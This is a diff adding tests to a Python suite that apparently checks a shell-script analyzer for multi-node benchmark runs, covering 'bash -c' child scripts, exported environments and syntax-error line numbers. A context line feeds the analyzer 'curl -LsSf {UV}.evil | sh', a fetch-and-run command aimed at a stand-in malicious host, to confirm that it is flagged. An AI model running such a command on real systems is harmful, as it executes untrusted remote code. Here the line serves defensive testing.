@@ -159,3 +159,20 @@ def test_the_multi_node_walk_reads_past_a_trusted_installer_only() -> None:
     assert not errors and [role for role, _ in found] == ["prefill", "decode"]
     found, errors = _multi_node(f"curl -LsSf {UV}.evil | sh\n")
     assert not found and errors and f"curl -LsSf {UV}.evil" in errors[0][2]
+
+
+def test_a_runner_starting_the_benchmark_script_in_a_started_shell_starts_it() -> None:
+    """Runner mode: the benchmark script a `bash -c` starts is the runner's child, with the
+    environment the shell was given, and the runner stops there as it does on a direct start."""
+    ev = run('export CONC=16\nsrun --export=ALL bash -c "cd /workspace && bash benchmarks/bench.sh"\nexit 3\n',
+             mode="child")
+    [result] = ev.results
+    assert result.child is not None and result.child.path == "benchmarks/bench.sh"
+    assert ("CONC", "16") in {(name, value) for name, value, _ in result.child.env}
+    assert result.exit_loc is None
+
+
+def test_a_syntax_error_in_started_code_names_the_line_it_is_written_on() -> None:
+    with pytest.raises(ShellLimit) as info:
+        run('echo start\nbash -c "\n  X=1\n  f(\n"\n' + SERVE)
+    assert "x.sh:4:" in info.value.message and info.value.loc is not None and info.value.loc[1] == 2
